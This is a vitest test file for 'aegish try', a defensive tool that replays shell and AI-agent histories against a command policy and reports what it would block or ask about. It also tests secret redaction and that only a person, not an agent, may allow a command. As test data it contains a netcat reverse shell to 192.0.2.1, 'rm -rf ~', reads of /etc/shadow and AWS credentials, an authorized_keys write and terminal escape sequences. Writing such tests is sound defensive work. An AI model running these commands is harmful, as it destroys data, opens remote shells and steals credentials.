import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { aegish } from './command.ts'
import { HISTORIES, writeBelow } from './support/made-up-home.ts'
import { testFolder } from './test-folder.ts'

const folder = testFolder().path

let homes = 0
function newHome(files: Record<string, string | Buffer> = HISTORIES) {
  const home = join(folder, String(homes++))
  mkdirSync(home)
  writeBelow(home, files)
  return {
    home,
    run: (...args: string[]) => aegish(args, { env: { HOME: home }, cwd: home }),
  }
}

interface Finding {
  id: string
  command: string
  verdict: string
  histories: string[]
  times: number
}

describe('aegish try', () => {
  it('says what would have been blocked or asked, grouped by reason, in 80 columns', () => {
    const { run } = newHome()
    const { stdout, stderr, status } = run('try')
    expect(status).toBe(0)
    expect(stdout).toMatch(/^\d+ commands in 7 files, \d+ different: \d+ pass, 1 ask, 10 blocked\n/)
    expect(stdout).toContain('rule 4 read-secret: Reads a security-critical file (5)')
    expect(stdout).toContain('4 × bash, zsh, claude-code, codex: cat reads the password hashes')
    expect(stderr).toMatch(/^aegish: .*s1\.jsonl: 1 line without JSON left out\n$/)
    for (const line of stdout.split('\n')) expect(line.length).toBeLessThanOrEqual(80)
    const review = JSON.parse(run('try', '--json').stdout)
    expect(review.findings.map(({ command }: Finding) => command)).toEqual(
      expect.arrayContaining([
        'for f in *; do\n  rm -rf ~\ndone',
        'cat ~/.aws/credentials',
        'read /home/dev/.aws/credentials',
        'write /home/dev/.ssh/authorized_keys',
        'nc -e /bin/sh 192.0.2.1 4444',
      ]),
    )
  })

  it('tells what would be asked about because nobody answers for it', () => {
    const { run } = newHome({
      '.bash_history': 'ls -l /etc/shadow ~/.ssh/id_rsa\ncat "$(sqlite3 :memory: "select 1")"\n',
    })
    expect(run('try').stdout).toMatch(/2 ask, 0 blocked[\s\S]*\n {2}looks like an attack \(1\)\n/)
    expect(JSON.parse(run('try', '--json').stdout).findings).toMatchObject([
      { verdict: 'WARN', certainty: 'unresolved', unknowns: [expect.stringContaining('sqlite3')] },
      { verdict: 'WARN', certainty: 'doubtful' },
    ])
  })

  it('shows no secret, in the terminal, the page or the JSON', () => {
    const { run, home } = newHome()
    const html = join(home, 'review.html')
    const shown = [run('try', '--all', '--html', html), run('try', '--json')]
    const all = shown.map(({ stdout, stderr }) => stdout + stderr).join('') + readFileSync(html)
    expect(all).toContain('API_TOKEN=[redacted]')
    expect(all).not.toContain('abcdef123456')
    expect(statSync(html).mode & 0o077).toBe(0)
    expect(readFileSync(html, 'utf8')).toContain('default-src &#39;none&#39;')
    expect(readFileSync(html, 'utf8')).not.toMatch(/<script|https?:\/\/(?!x\.example)/)
  })

  it('makes of a line an entry of the policy, or a sample of a suite', () => {
    const { run, home } = newHome()
    const idOf = (command: string) =>
      JSON.parse(run('try', '--json').stdout).findings.find(
        (finding: Finding) => finding.command === command,
      )?.id
    const npm = idOf('npm install left-pad')
    expect(run('try', 'allow', npm).stderr).toMatch(/NO_TERMINAL|nobody can be asked here/)
    const allowed = run('try', 'allow', npm, '--yes')
    expect(allowed).toMatchObject({ status: 0 })
    expect(allowed.stdout).toContain('npm install left-pad')
    expect(idOf('npm install left-pad')).toBeUndefined()
    expect(
      run('check', 'npm install left-pad', '--policy', join(home, '.config/aegish/policy.yaml'))
        .status,
    ).toBe(0)
    expect(run('audit', '--json').stdout).toContain('"event":"allow-always"')

    const suite = join(home, 'mine.jsonl')
    const added = run(
      'try',
      'sample',
      idOf('cat /etc/shadow'),
      '--suite',
      suite,
      '--expect',
      'BLOCK',
    )
    expect(added).toMatchObject({ status: 0 })
    expect(run('try', 'sample', idOf('cat ~/.aws/credentials'), '--suite', suite).status).toBe(0)
    expect(run('try', 'sample', idOf('cat ~/.aws/credentials'), '--suite', suite)).toMatchObject({
      status: 2,
      lines: [expect.stringContaining('holds this command already')],
    })
    const shown = run('suite', 'show', suite, '--json').stdout.trimEnd().split('\n')
    expect(shown.map((line) => JSON.parse(line))).toMatchObject([
      { command: 'cat /etc/shadow', expect: 'BLOCK' },
      { command: 'cat ~/.aws/credentials', expect: 'ALLOW' },
    ])
    const tool = idOf('write /home/dev/.ssh/authorized_keys')
    expect(run('try', 'sample', tool, '--suite', suite).status).toBe(2)
    for (const args of [
      ['allow', 'ffffffff'],
      ['sample', 'x', '--suite', 'mine.txt'],
      ['sample', 'x'],
      ['nothing'],
      ['--html'],
    ])
      expect(run('try', ...args), args.join(' ')).toMatchObject({
        status: 2,
        lines: [expect.any(String)],
      })
  })

  it('obeys the policy of the person, and refuses an agent', () => {
    const { home } = newHome({
      ...HISTORIES,
      '.config/aegish/policy.yaml': 'version: 1\nrole: developer\n',
    })
    const env = { HOME: home }
    expect(aegish(['try'], { env }).stdout).toContain('0 ask, 10 blocked')
    expect(
      aegish(['try', 'allow', '00000000'], { env: { ...env, CLAUDECODE: '1' } }),
    ).toMatchObject({
      status: 2,
      lines: [expect.stringContaining('only a person may allow it')],
    })
  })

  it('answers an empty home, and one full of hostile files', () => {
    expect(newHome({}).run('try')).toMatchObject({
      status: 0,
      stdout: 'no history and no conversation of an agent was found\n',
    })
    const hostile = newHome({
      '.bash_history': `\u001b[2J\u001b]0;x\u0007cat /etc/shadow \u202e\n${'cat /etc/shadow;'.repeat(20_000)}\n${'x'.repeat(9_000_000)}\n`,
      '.zsh_history': Buffer.from(Array.from({ length: 100_000 }, (_, i) => (i * 7919) % 256)),
      '.local/share/atuin/history.db': 'SQLite format 3\0 and then nothing',
      '.claude/projects/p/a.jsonl': '{"tool_use":'.repeat(10_000),
      '.gemini/tmp/p/chats/session-1.json': '[]]',
    })
    mkdirSync(join(hostile.home, '.codex/sessions'), { recursive: true })
    chmodSync(join(hostile.home, '.codex/sessions'), 0)
    const html = join(hostile.home, 'x.html')
    const { stdout, stderr, status } = hostile.run('try', '--html', html)
    chmodSync(join(hostile.home, '.codex/sessions'), 0o700)
    expect(status).toBe(0)
    expect(existsSync(html)).toBe(true)
    for (const text of [stdout, stderr, readFileSync(html, 'utf8')])
      expect(text).not.toMatch(/[\u001b\u0007\u202e]/)
    expect(stdout).toContain('\\u001b[2J')
    expect(stderr).toMatch(/bash_history: 1 line of more than 8 MB left out/)
    expect(stderr).toMatch(/history\.db: .*not all of it is read/)
    expect(stderr).toMatch(/session-1\.json: is no JSON/)
    for (const line of stdout.split('\n')) expect(line.length).toBeLessThanOrEqual(80)
  })

  it('says that a page cannot be written', () => {
    const { run, home } = newHome({})
    writeFileSync(join(home, 'file'), '')
    expect(run('try', '--html', 'file/below.html')).toMatchObject({ status: 2 })
  })
})
